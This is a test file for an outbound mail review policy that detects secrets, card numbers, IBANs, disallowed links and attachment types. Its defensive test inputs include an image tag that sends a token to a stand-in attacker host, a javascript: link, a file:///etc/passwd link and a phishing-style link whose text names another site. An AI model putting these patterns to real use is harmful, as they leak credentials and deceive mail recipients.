import { describe, expect, it } from "vitest";
import {
  type OutgoingContent,
  ownSecrets,
  redact,
  reviewContent,
  type ReviewRules,
  severest,
} from "../../src/policy/outbound-review.ts";

const KEY = ["ghp", "aB3dE5gH7jK9mN1pQ2rS4tU6vW8xY0zA1bC2"].join("_");
const CARD = "4111 1111 1111 1111";
const own = ownSecrets(["dev", "pa55/wörd of mine"]);
const RULES: ReviewRules = { secrets: "refuse", personalData: "hold", links: undefined, attachments: undefined };

const mail = (change: Partial<OutgoingContent> = {}): OutgoingContent => ({
  subject: "Laptops",
  body: "May we order 40 laptops (order 4711)?",
  attachments: [],
  ...change,
});
const file = (content: string | Uint8Array, filename = "notes.txt", contentType = "text/plain") => ({
  attachments: [{ filename, contentType, content }],
});
const find = (change: Partial<OutgoingContent>, rules: Partial<ReviewRules> = {}) =>
  reviewContent(mail(change), { ...RULES, ...rules }, own);

describe("a mail on its way out", () => {
  it("goes, where nothing is found", () => {
    expect(find({})).toEqual({ verdict: "send", findings: [] });
  });

  it.each<[string, Partial<OutgoingContent>, string]>([
    ["the subject", { subject: `Key ${KEY}` }, "subject"],
    ["the body", { body: `Key ${KEY}` }, "body"],
    ["visible HTML", { html: `<p>${KEY.slice(0, 8)}<b>${KEY.slice(8)}</b></p>` }, "html"],
    ["hidden HTML", { html: `<p>Hi</p><div style="display:none">${KEY}</div>` }, "html"],
    ["an attribute", { html: `<img alt="" src="https://evil.example/${KEY}">` }, "html"],
    ["entities", { html: `<p>&#103;hp_${KEY.slice(4)}</p>` }, "html"],
    ["a text attachment", file(`a\n${KEY}\n`), "attachment 1"],
    ["a text attachment of bytes", file(Buffer.from(`x=${KEY}`), "a.bin", "application/octet-stream"), "attachment 1"],
    ["UTF-16", file(Buffer.from(`\ufeff${KEY}`, "utf16le"), "a.bin"), "attachment 1"],
    ["UTF-16 the other way round", file(Buffer.from(`\ufeff${KEY}`, "utf16le").swap16(), "a.bin"), "attachment 1"],
    ["UTF-16 without a mark", file(Buffer.from(KEY, "utf16le"), "a.csv", "text/csv"), "attachment 1"],
    ["a long text attachment", file(`${"x ".repeat(600_000)}${KEY}`), "attachment 1"],
    [
      "signs that cannot be seen",
      { body: `${KEY.slice(0, 9)}\u200b${KEY.slice(9, 20)}\u00ad${KEY.slice(20)}` },
      "body",
    ],
    ["an HTML attachment", file(`<p>${KEY}</p>`, "a.html", "text/html; charset=utf-8"), "attachment 1"],
    ["an attachment's name", file("x", `${KEY}.txt`), "attachment 1"],
  ])("with a secret in %s is refused, and the finding does not give it away", (_, change, where) => {
    const { verdict, findings } = find(change);
    expect(verdict).toBe("refuse");
    expect(findings).toContainEqual({ rule: "github-token", where, excerpt: "ghp_… (40 characters)" });
    expect(JSON.stringify(findings)).not.toContain(KEY.slice(0, 12));
  });

  it.each([
    ["no-break spaces", "4111\u00a01111\u00a01111\u00a01111", "card-number"],
    ["thin spaces and dashes", "4111\u2013\u20601111\u20131111\u20131111", "card-number"],
    ["wide digits", "４１１１１１１１１１１１１１１１", "card-number"],
    ["no-break spaces", "DE89\u202f3704\u202f0044\u202f0532\u202f0130\u202f00", "iban"],
  ])("is read as people read it: %s in a number", (_, number, rule) => {
    expect(find({ body: `It is ${number}.` }, { personalData: "hold" }).findings).toMatchObject([{ rule }]);
    expect(redact(`It is ${number}.`, own)).toMatch(/^It is \[[a-z-]+: [^\]]+\]\.$/);
  });

  it("is not searched where its attachment is no text", () => {
    const png = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 0, 0]), Buffer.from(KEY)]);
    expect(find(file(png, "a.png", "image/png")).findings).toEqual([]);
  });

  it("knows the kit's own credentials, as they are and in a URL, but not short ones, which are words", () => {
    for (const text of ["pa55/wörd of mine", encodeURIComponent("pa55/wörd of mine")]) {
      expect(find({ body: `It is ${text}.` }).findings).toEqual([
        { rule: "own-credential", where: "body", excerpt: "…" },
      ]);
    }
    expect(find({ body: "npm run dev" }).findings).toEqual([]);
  });

  it("is judged by the severest finding, and by what is asked for alone", () => {
    const both = { body: `Card ${CARD}, key ${KEY}` };
    expect(find(both).verdict).toBe("refuse");
    expect(find(both, { secrets: "send" })).toMatchObject({ verdict: "hold", findings: [{ rule: "card-number" }] });
    expect(find(both, { secrets: "hold", personalData: "send" })).toMatchObject({ verdict: "hold" });
    expect(find(both, { secrets: "send", personalData: "send" })).toEqual({ verdict: "send", findings: [] });
    expect(severest([])).toBe("send");
  });

  it("is shown to a reviewer without what was found in it", () => {
    expect(redact(`Card ${CARD}, key ${KEY}, pa55/wörd of mine. Bye`, own)).toBe(
      "Card [card-number: visa …1111], key [github-token: ghp_… (40 characters)], [own-credential: …]. Bye",
    );
  });
});

describe("links", () => {
  const links = { max: 2, domains: ["corp.example", "*.corp.example"], verdict: "hold" } as const;
  it.each<[string, Partial<OutgoingContent>, string[]]>([
    ["an allowed host", { body: "See https://corp.example/a and https://x.corp.example." }, []],
    ["another host", { body: "See https://corp.example.evil.test/a?x=secret" }, ["link-domain corp.example.evil.test"]],
    ["a host before an @", { body: "https://corp.example@evil.test/" }, ["link-domain evil.test"]],
    ["too many", { body: "https://corp.example/1 https://corp.example/2 https://corp.example/3" }, ["link-count"]],
    ["one of them twice", { body: "https://corp.example/1 https://corp.example/1. https://corp.example/2" }, []],
    ["a script", { html: `<a href="javascript:alert(1)">x</a>` }, ["link-scheme javascript:"]],
    ["a file", { body: "file:///etc/passwd" }, ["link-scheme file:"]],
    ["a mail address", { html: `<a href="mailto:a@b.example">a@b.example</a>` }, []],
    [
      "a text that names another host",
      { html: `<a href="https://x.corp.example/a">https://bank.example/login</a>` },
      ["link-text bank.example leads to x.corp.example"],
    ],
    ["a text that names the same site", { html: `<a href="https://www.corp.example/a">corp.example</a>` }, []],
    ["a text that is a file's name", { html: `<a href="https://corp.example/a">report.pdf</a>` }, []],
    [
      "an address in the text of HTML",
      { html: "<p>Go to https://evil.test/a or www.evil.test</p>" },
      ["link-domain evil.test", "link-domain www.evil.test"],
    ],
    ["an address without a scheme", { body: "See www.evil.test/a" }, ["link-domain www.evil.test"]],
    [
      "what is loaded from another host",
      {
        html: `<!DOCTYPE html PUBLIC "x" "http://www.w3.org/TR/a.dtd"><html xmlns="http://www.w3.org/1999/xhtml"><img src="https://a.test/x"><img src=//b.test/x>
          <p style="background:url(http://c.test/x)">x</p><form action='https://d.test'></form><img srcset="https://corp.example/1 1x, https://e.test/2 2x"></html>`,
      },
      ["a", "b", "c", "d", "e"].map((name) => `link-domain ${name}.test`),
    ],
    ["a text in words", { html: `<a href="https://corp.example/a">Look here. Now.</a>` }, []],
  ])("%s", (_, change, expected) => {
    const { verdict, findings } = find(change, { links });
    const seen = findings.map(({ rule, excerpt }) => (rule === "link-count" ? rule : `${rule} ${excerpt}`));
    expect(seen).toEqual(expected);
    expect(verdict).toBe(expected.length > 0 ? "hold" : "send");
  });
});

describe("attachments", () => {
  it.each<[string, Partial<OutgoingContent>, string[]]>([
    ["of an allowed type", file("x", "a.pdf", "application/PDF; name=a.pdf"), []],
    ["of an allowed family", file("x", "a.csv", "text/csv"), []],
    [
      "of another type",
      file("x", "a.exe", "application/x-msdownload"),
      ["attachment application/x-msdownload, 1 octets"],
    ],
    ["that is too large", file("x".repeat(101)), ["attachment text/plain, 101 octets"]],
  ])("%s", (_, change, expected) => {
    const attachments = { allow: ["application/pdf", "text/*"], maxBytes: 100, verdict: "refuse" } as const;
    expect(find(change, { attachments }).findings.map(({ rule, excerpt }) => `${rule} ${excerpt}`)).toEqual(expected);
  });
});
